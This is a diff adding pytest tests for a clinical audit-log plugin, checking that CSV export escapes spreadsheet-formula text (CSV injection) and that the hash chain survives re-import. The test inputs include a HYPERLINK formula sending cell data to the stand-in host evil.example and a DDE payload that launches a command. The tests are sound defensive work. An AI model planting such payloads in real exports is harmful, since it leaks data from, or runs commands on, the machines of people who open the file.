@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 from datetime import date, timedelta
@@ -23,9 +24,16 @@ from audit.balp_support import (
     record_details,
 )
 from audit.helpers import START, fill
-from plugin.audit.export import export_records, import_csv
+from plugin.audit.export import export_records, import_csv, write_csv
 from plugin.audit.log import AuditEntry, record
-from plugin.audit.models import AUDIT_TABLE, compute_hash, record_as_dict, record_as_json
+from plugin.audit.models import (
+    AUDIT_TABLE,
+    EXPORT_FIELDS,
+    GENESIS_HASH,
+    compute_hash,
+    record_as_dict,
+    record_as_json,
+)
 from plugin.db import Database
 
 
@@ -89,6 +97,108 @@ def test_csv_filters_by_patient_and_since(filled: Database) -> None:
 def test_import_csv_refuses_a_foreign_file() -> None:
     with pytest.raises(ValueError, match="header"):
         import_csv("a,b\n1,2\n")
+
+
+# What spreadsheets may run as a formula (OWASP CSV injection), fullwidth forms included.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+# Values that already start with the escape quote: it must be escaped too, or the import could not tell.
+QUOTED_STARTS = ("'", "''", "'=1+1", "'plain", "'-3", "' ")
+
+
+def raw_rows(text: str) -> list[dict[str, str]]:
+    """Return the data rows of a CSV export as raw cells by column name (what a spreadsheet opens)."""
+    header, *rows = csv.reader(io.StringIO(text, newline=""))
+    assert tuple(header) == EXPORT_FIELDS
+    return [dict(zip(header, row, strict=True)) for row in rows]
+
+
+def record_texts(db: Database, values: tuple[str, ...]) -> None:
+    """Append one override per value, with the value as reason text and as the start of actor and request id."""
+    for index, value in enumerate(values):
+        record(
+            db,
+            AuditEntry(
+                actor=f"{value}actor",
+                actor_role="clinician",
+                action="dose-change.override",
+                patient_id="123",
+                override_reason_code="other",
+                override_reason_text=value,
+                request_id=f"{value}req",
+                dose_before_ug_per_day=-5.0,
+                dose_after_ug_per_day=400.0,
+            ),
+            now=START + timedelta(minutes=index),
+        )
+
+
+def assert_chain_verifies(rows: list[dict[str, Any]]) -> None:
+    """Assert that re-imported rows recompute their hashes and link up from the genesis hash."""
+    prev_hash = GENESIS_HASH
+    for seq, row in enumerate(rows, start=1):
+        assert row["seq"] == seq and row["prev_hash"] == prev_hash
+        assert compute_hash(row) == row["hash"]
+        prev_hash = row["hash"]
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_csv_prefixes_a_quote_to_free_text_a_spreadsheet_would_run(any_db: Database, start: str) -> None:
+    payload = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")'
+    record_texts(any_db, (payload,))
+    _, text = export(any_db, "csv")
+    (row,) = raw_rows(text)
+    assert row["override_reason_text"] == f"'{payload}"
+    assert row["request_id"] == f"'{payload}req"  # a nullable text field
+    assert row["actor"] == f"'{payload}actor"  # a required text field
+    text_cells = [cell for name, cell in row.items() if not name.startswith("dose_")]
+    assert not [cell for cell in text_cells if cell.startswith(FORMULA_STARTS)]
+
+
+def test_csv_escapes_the_classic_payloads_in_the_raw_text(any_db: Database) -> None:
+    payloads = ("@SUM(1+1)", "+cmd|' /C calc'!A0", "=1+1", "-2+3")
+    record_texts(any_db, payloads)
+    _, text = export(any_db, "csv")
+    assert "'@SUM(1+1)" in text and ",'=1+1," in text and ",'-2+3," in text
+    assert ",@SUM" not in text and ",=1+1" not in text and ",-2+3" not in text
+    assert [row["override_reason_text"] for row in raw_rows(text)] == [f"'{value}" for value in payloads]
+
+
+def test_csv_formula_escape_round_trips_exactly_and_the_chain_verifies(any_db: Database) -> None:
+    values = (*FORMULA_STARTS, *(f"{start}x" for start in FORMULA_STARTS), *QUOTED_STARTS, "a'", "x=1")
+    record_texts(any_db, values)
+    _, text = export(any_db, "csv")
+    raw = [row["override_reason_text"] for row in raw_rows(text)]
+    assert raw == [f"'{value}" if value.startswith((*FORMULA_STARTS, "'")) else value for value in values]
+    assert raw[values.index("'")] == "''" and raw[values.index("''")] == "'''"
+    imported = import_csv(text)
+    assert imported == stored_records(any_db)
+    assert [row["override_reason_text"] for row in imported] == list(values)
+    assert [row["request_id"] for row in imported] == [f"{value}req" for value in values]
+    assert_chain_verifies(imported)
+
+
+def test_csv_leaves_numbers_and_ordinary_text_alone_but_escapes_the_same_text(any_db: Database) -> None:
+    record_texts(any_db, ("-5.0", "Spasms wake the patient; «reviewed» = fine"))
+    _, text = export(any_db, "csv")
+    negative, ordinary = raw_rows(text)
+    assert negative["dose_before_ug_per_day"] == "-5.0"  # a number cell, not escaped
+    assert negative["override_reason_text"] == "'-5.0"  # the same characters as text are
+    assert ordinary["override_reason_text"] == "Spasms wake the patient; «reviewed» = fine"
+    assert ordinary["seq"] == "2" and ordinary["recorded_at"] == "2026-11-20T10:01:00.000000+00:00"
+    assert ordinary["finding_codes"] == "[]" and ordinary["detail"] == "{}"
+    imported = import_csv(text)
+    assert imported[0]["dose_before_ug_per_day"] == -5.0 and imported[0]["override_reason_text"] == "-5.0"
+
+
+def test_import_csv_still_reads_an_empty_cell_as_null_and_a_lone_quote_as_text(filled: Database) -> None:
+    (stored,) = [row for row in stored_records(filled) if row["action"] == "audit.view"]
+    out = io.StringIO()
+    write_csv(iter([{**stored, "override_reason_text": "", "request_id": "'", "iss": "''"}]), out)
+    (row,) = raw_rows(out.getvalue())
+    assert row["override_reason_text"] == "" and row["request_id"] == "''" and row["iss"] == "'''"
+    (imported,) = import_csv(out.getvalue())
+    assert imported["override_reason_text"] is None  # as before: an empty cell is null
+    assert imported["request_id"] == "'" and imported["iss"] == "''"
 
 
 def test_ndjson_has_one_parseable_record_per_line(filled: Database) -> None:
